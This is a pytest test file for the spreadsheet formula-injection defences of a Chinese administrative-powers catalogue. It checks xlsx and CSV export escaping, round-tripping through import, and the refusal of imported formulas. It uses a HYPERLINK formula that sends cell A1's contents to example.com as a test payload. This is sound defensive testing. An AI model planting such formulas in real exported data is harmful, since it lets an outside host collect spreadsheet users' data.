"""Text that a spreadsheet would take for a formula (issue 21, item 2): a power named
=HYPERLINK("http://…"&A1,"点击查看") is a string cell in every xlsx we write and a `'`-escaped cell
in every CSV (the catalogue export, open data, the 对照 comparison, the 一盘 package), the exact names
come back through export → import, and the import never makes a formula of anything: a formula
cell is read as its value, and one without a value (any unescaped `=…` cell of a CSV) refuses its
row. Real powers, real files read back with openpyxl and csv, real HTTP."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime
from pathlib import Path

import httpx
import pytest
from openpyxl import Workbook, load_workbook

from domain.access import PUBLIC
from domain.catalog.cells import FORMULA_START, append_text_row, csv_text, from_csv
from domain.catalog.compare import compare, comparison_xlsx
from domain.catalog.export import ExportFormat, catalog_export, write
from domain.catalog.importer import RowFate, import_into_unit, import_reference
from domain.enums import PowerCategory
from domain.models import Power, Unit
from qingquan.package import build_package
from tests.catalog_sheets import numbered_unit, tag
from tests.factories import ADMIN, make_power, row_counts, unique
from tests.workflow_factories import published_power

pytestmark = pytest.mark.usefixtures("demo")  # the demo first: its powers keep the lowest ids
NOW = datetime(2026, 12, 7, 10, 0).astimezone()
HYPERLINK = '=HYPERLINK("http://example.com/?q="&A1,"点击查看")'


def risky_names(suffix: str) -> list[str]:
    """Names beginning with each formula character, and one with a quote before it (escaped twice)."""
    return [f"{HYPERLINK}{suffix}", f"-某某许可{suffix}", f"+某某处罚{suffix}", f"@某某检查{suffix}", f"'=某某确认{suffix}"]


async def risky_unit() -> tuple[Unit, list[str]]:
    """A unit with a published power and drafts named as a spreadsheet would run them, one whose
    description and fee are formula-like too."""
    unit = await numbered_unit("测试公式单位")
    names = risky_names(tag())
    await published_power(unit, name=names[0], category=PowerCategory.LICENSING, code="",
                          description="=1+1", fee_standard="-")  # fmt: skip
    for name in names[1:]:
        await make_power(unit, name=name, code="")
    return unit, names


def assert_no_formula_in_xlsx(content: bytes) -> list[tuple]:
    """Every cell of every sheet: never a formula; a text beginning with a formula character is a
    string cell with the quotePrefix style. The first sheet's rows, for further checks."""
    book = load_workbook(io.BytesIO(content))
    risky = 0
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value and cell.value[0] in FORMULA_START:
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                    risky += 1
    assert risky, "the sheet was to hold formula-like text"
    return list(book.worksheets[0].iter_rows(values_only=True))


def assert_escaped_csv(content: bytes) -> list[list[str]]:
    """No CSV cell begins with a formula character; the rows."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    for row in rows:
        for value in row:
            assert not value or value[0] not in FORMULA_START, value
    return rows


def test_the_escape_is_undone_exactly() -> None:
    for text in ("=1+1", "-某某", "+86", "@x", "\t=x", "\r=x", "'=x", "''-x", "'", "'abc", "普通名称", "", "a=b"):
        escaped = csv_text(text)
        assert not escaped or str(escaped)[0] not in FORMULA_START
        assert from_csv(str(escaped)) == text
    assert csv_text("=1+1") == "'=1+1" and csv_text("'=x") == "''=x" and csv_text("'abc") == "'abc"
    assert csv_text(7) == 7
    ws = Workbook().active
    append_text_row(ws, ["=1+1", "#N/A", "\t@x", 3, None, "文字"])
    assert [c.data_type for c in ws[1]] == ["s", "s", "s", "n", "n", "s"]
    assert [c.value for c in ws[1]][:3] == ["=1+1", "#N/A", "\t@x"] and ws["A1"].quotePrefix and not ws["F1"].quotePrefix


async def test_the_catalogue_export_writes_text_never_formulas_and_round_trips_the_names() -> None:
    unit, names = await risky_unit()
    export = await catalog_export(ADMIN, unit, generated_at=NOW)
    sheet = assert_no_formula_in_xlsx(write(export, ExportFormat.XLSX))
    assert {row[2] for row in sheet[2:]} == set(names)
    rows = assert_escaped_csv(write(export, ExportFormat.CSV))
    assert {row[2] for row in rows[1:]} == {"'" + name for name in names}  # the header first, no title row
    described = next(row for row in rows[1:] if row[2] == "'" + names[0])
    assert described[14] == "'=1+1" and described[9] == "'-"
    for fmt in (ExportFormat.XLSX, ExportFormat.CSV):
        target = await numbered_unit("测试导入单位")
        result = await import_into_unit(ADMIN, target.code, f"catalog.{fmt.value}", write(export, fmt))
        assert [r.fate for r in result.rows] == [RowFate.CREATED] * len(names), [r.reasons for r in result.rows]
        assert sorted(await Power.filter(unit_id=target.id).values_list("name", flat=True)) == sorted(names)
        copied = await Power.get(unit_id=target.id, name=names[0])
        assert copied.description == "=1+1" and copied.fee_standard == "-"


async def test_open_data_csv_is_escaped(client: httpx.AsyncClient) -> None:
    unit, names = await risky_unit()
    response = await client.get(f"/open-data/units/{unit.code}/catalog.csv")
    assert response.status_code == 200
    rows = assert_escaped_csv(response.content)
    assert [row[2] for row in rows[1:]] == ["'" + names[0]]  # only the published power is open data


async def test_the_package_and_the_comparison_write_text_never_formulas(tmp_path: Path) -> None:
    unit, names = await risky_unit()
    for viewer in (ADMIN, PUBLIC):
        package = await build_package(viewer, unit.code, generated_at=NOW, pdf=False)
        sheet = assert_no_formula_in_xlsx(zipfile.ZipFile(io.BytesIO(package.content)).read("catalog/catalog.xlsx"))
        assert names[0] in {row[2] for row in sheet[2:]}
    # another place's catalogue, as an escaping system writes it: names that are formulas as text
    place = f"公式县{unique('')}"
    theirs = [f"={unique('x')}", f"-{names[1][1:]}", f"@他方事项{unique('')}"]
    out = io.StringIO()
    csv.writer(out).writerows([["事项名称", "类别"], *([csv_text(name), "行政许可"] for name in theirs)])
    await import_reference(ADMIN, place, "他方.csv", out.getvalue().encode())
    result = await compare(ADMIN, unit.code, place)
    assert result.matched and result.only_ours and result.only_theirs
    assert_no_formula_in_xlsx(comparison_xlsx(result))


async def test_an_imported_formula_is_its_value_or_refuses_its_row() -> None:
    """An .xlsx formula cell saved with its value is that value (what its author saw); one saved
    without (openpyxl writes none) and a CSV's unescaped =… refuse their row; nothing is evaluated."""
    suffix = tag()
    book = Workbook()
    ws = book.active
    ws.append(["职权名称", "职权类别"])
    ws.append([f"有值的公式{suffix}", "行政许可"])
    ws.append(['=A2&"（无值）"', "行政许可"])
    ws.append([f"普通名称{suffix}", "=B2"])
    buffer = io.BytesIO()
    book.save(buffer)
    # the value Excel saves with a formula: <c t="str"><f>…</f><v>…</v></c>
    source = zipfile.ZipFile(buffer)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                text = data.decode()
                cell = text.index('<c r="A2"')
                end = text.index("</c>", cell) + 4
                text = text[:cell] + f'<c r="A2" t="str"><f>"有值的"&amp;"公式"</f><v>有值的公式{suffix}</v></c>' + text[end:]
                data = text.encode()
            target.writestr(info, data)
    unit = await numbered_unit()
    before = await row_counts()
    result = await import_into_unit(ADMIN, unit.code, "公式.xlsx", out.getvalue(), dry_run=True)
    by_row = {r.row: r for r in result.rows}
    assert by_row[2].fate is RowFate.CREATED and by_row[2].name == f"有值的公式{suffix}"
    assert by_row[3].fate is RowFate.REFUSED and "没有计算结果的公式" in by_row[3].reasons[-1] and "职权名称" in by_row[3].reasons[-1]
    assert by_row[4].fate is RowFate.REFUSED and "职权类别" in by_row[4].reasons[-1]
    assert await row_counts() == before
    # a CSV: '=… is the text =…; an unescaped =… is a formula without a value
    name = f"{HYPERLINK}{suffix}"
    out = io.StringIO()
    csv.writer(out).writerows([["职权名称", "职权类别"], [f"{HYPERLINK}甲", "行政许可"], ["'" + name, "行政处罚"]])
    result = await import_into_unit(ADMIN, unit.code, "公式.csv", out.getvalue().encode())
    assert [r.fate for r in result.rows] == [RowFate.REFUSED, RowFate.CREATED], [r.reasons for r in result.rows]
    assert "formula without a value" in result.rows[0].reasons[0]
    assert await Power.filter(unit_id=unit.id).values_list("name", flat=True) == [name]
